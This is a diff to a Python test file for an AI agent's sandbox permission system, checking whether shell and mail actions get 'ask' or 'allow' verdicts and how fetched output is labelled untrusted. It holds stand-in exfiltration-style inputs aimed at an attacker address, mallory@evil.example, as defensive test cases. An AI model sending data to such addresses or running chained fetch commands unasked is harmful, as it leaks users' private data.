@@ -356,8 +356,20 @@ async def test_commands_without_walls_ask(tmp_path: Path) -> None:
     settings = load_settings(tmp_path, flags={"sandbox.backend": "none", "mode": "autonomous"})
     async with Toolbox.open(settings=settings, tools=TOOLS) as box:
         await box.call("fetch", {"url": "https://blog.example/"})
-        check = await box.check("exec", {"command": "echo mallory@evil.example"})
+        check = await box.check("exec", {"command": "./report mallory@evil.example"})
         assert (check.verdict, check.rule) == ("ask", "labels:default")
+        check = await box.check("exec", {"command": "echo mallory@evil.example"})
+        assert check.verdict == "allow", "what only prints sends nothing"
+
+
+async def test_what_a_command_fetched_is_untrusted(tmp_path: Path) -> None:
+    settings = load_settings(tmp_path, flags={"sandbox.backend": "none", "mode": "autonomous"})
+    async with Toolbox.open(settings=settings, tools=TOOLS) as box:
+        fetched = await box.call("exec", {"command": "curl -sm1 http://127.0.0.1:9/; echo mallory@evil.example"})
+        assert fetched.labels == Labels("untrusted", "private")
+        check = await box.check("mail", {"to": "mallory@evil.example", "text": "hello"})
+        assert check.rule == "labels:default"
+        assert (await box.call("exec", {"command": "echo hello"})).labels == Labels("trusted", "private")
 
 
 text = st.text(max_size=300)
